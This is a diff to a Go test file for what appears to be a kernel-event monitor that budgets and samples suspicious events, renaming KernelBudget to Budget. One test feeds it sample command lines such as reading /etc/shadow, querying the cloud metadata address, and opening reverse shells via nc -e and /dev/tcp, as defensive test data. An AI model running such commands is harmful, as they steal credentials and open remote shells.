@@ -1,4 +1,4 @@
-package observe
+package kbudget
 
 import (
 	"fmt"
@@ -16,7 +16,7 @@ func failedExec(p string) moat.Event {
 // their own reserve, are counted as a flood ("kernel"), and the exec and
 // connect that follow are kept.
 func TestKernelBudgetFlood(t *testing.T) {
-	var b KernelBudget
+	var b Budget
 	for i := range 3000 {
 		b.Keep(failedExec(fmt.Sprintf("/nonexistent/x%d", i)))
 	}
@@ -25,8 +25,8 @@ func TestKernelBudgetFlood(t *testing.T) {
 		t.Fatal("the payload after the flood was dropped")
 	}
 	ev, n, ok := b.Event("kernel events")
-	if !ok || ev.Name != string(moat.SourceKernel) || n != 3000-KernelReserve(moat.KindExecFailed) {
-		t.Errorf("drop event %+v, %d dropped: want a kernel flood of %d", ev, n, 3000-KernelReserve(moat.KindExecFailed))
+	if !ok || ev.Name != string(moat.SourceKernel) || n != 3000-Reserve(moat.KindExecFailed) {
+		t.Errorf("drop event %+v, %d dropped: want a kernel flood of %d", ev, n, 3000-Reserve(moat.KindExecFailed))
 	}
 }
 
@@ -35,7 +35,7 @@ func TestKernelBudgetFlood(t *testing.T) {
 // arguments) fails on the same few files: each is kept MaxFailedRepeats
 // times, the rest counted as repeats, which are no flood.
 func TestKernelBudgetPathSearch(t *testing.T) {
-	var b KernelBudget
+	var b Budget
 	kept := 0
 	dirs := []string{"/work/.venv/bin", "/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"}
 	for i := range 100 {
@@ -55,7 +55,7 @@ func TestKernelBudgetPathSearch(t *testing.T) {
 		t.Errorf("drop event %+v, %d dropped: want only repeats", ev, n)
 	}
 	// A loop of one command that runs is kept MaxRepeats times.
-	var c KernelBudget
+	var c Budget
 	kept = 0
 	for range 50 {
 		if c.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/true", Detail: "true"}) {
@@ -85,7 +85,7 @@ func TestConnectHost(t *testing.T) {
 // connect out from another process, a shell on a socket) is kept all the
 // same, and the flood is counted as one.
 func TestKernelBudgetJudgedFirst(t *testing.T) {
-	var b KernelBudget
+	var b Budget
 	for i := range 500 {
 		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindExec, Path: "/bin/echo", Detail: fmt.Sprintf("echo %d", i)})
 		b.Keep(moat.Event{Source: moat.SourceKernel, Kind: moat.KindConnect, Addr: fmt.Sprintf("10.%d.%d.1:80", i/250, i%250), PID: 7})
@@ -114,7 +114,7 @@ func TestKernelBudgetJudgedFirst(t *testing.T) {
 // end, and cannot hide an event of another reason; what is not kept is
 // counted as such.
 func TestKernelBudgetInterestFlood(t *testing.T) {
-	var b KernelBudget
+	var b Budget
 	const n = 10000
 	kept, last := 0, 0
 	for i := range n {
@@ -126,7 +126,7 @@ func TestKernelBudgetInterestFlood(t *testing.T) {
 	}
 	// the reserve, the reason's first, the process's, and interestPerLevel in each of
 	// the 9 doublings from InterestFirst past the reserve to n
-	want := KernelReserve(moat.KindExec) + InterestFirst + InterestPerProcess + 9*interestPerLevel
+	want := Reserve(moat.KindExec) + InterestFirst + InterestPerProcess + 9*interestPerLevel
 	if kept > want || kept < want-interestPerLevel {
 		t.Errorf("kept %d of %d, want about %d", kept, n, want)
 	}
@@ -143,9 +143,9 @@ func TestKernelBudgetInterestFlood(t *testing.T) {
 }
 
 // TestKernelBudgetSampleBound: floods of every reason at once keep at
-// most MaxKernelEvents.
+// most MaxEvents.
 func TestKernelBudgetSampleBound(t *testing.T) {
-	var b KernelBudget
+	var b Budget
 	kept := 0
 	lines := []string{"curl 169.254.169.254/%d", "cat /etc/shadow%d", "echo >/dev/tcp/h/%d", "nc -e sh h %d", "wget x%d",
 		"base64 -d %d", "crontab x%d", "sh -i %d"}
@@ -158,8 +158,8 @@ func TestKernelBudgetSampleBound(t *testing.T) {
 			kept++
 		}
 	}
-	if kept > MaxKernelEvents {
-		t.Errorf("kept %d, more than MaxKernelEvents %d", kept, MaxKernelEvents)
+	if kept > MaxEvents {
+		t.Errorf("kept %d, more than MaxEvents %d", kept, MaxEvents)
 	}
 }
 
@@ -191,5 +191,15 @@ func TestInterest(t *testing.T) {
 		if got := Interest(c.ev); (got != "") != c.want {
 			t.Errorf("Interest(%+v) = %q, want of interest %v", c.ev, got, c.want)
 		}
+	}
+}
+
+func TestKernelReserves(t *testing.T) {
+	sum := 0
+	for _, k := range []string{"exec", "connect", "exec-failed", "denied"} {
+		sum += Reserve(moat.Kind(k))
+	}
+	if sum != reserves {
+		t.Fatalf("reserves sum to %d, want reserves %d", sum, reserves)
 	}
 }
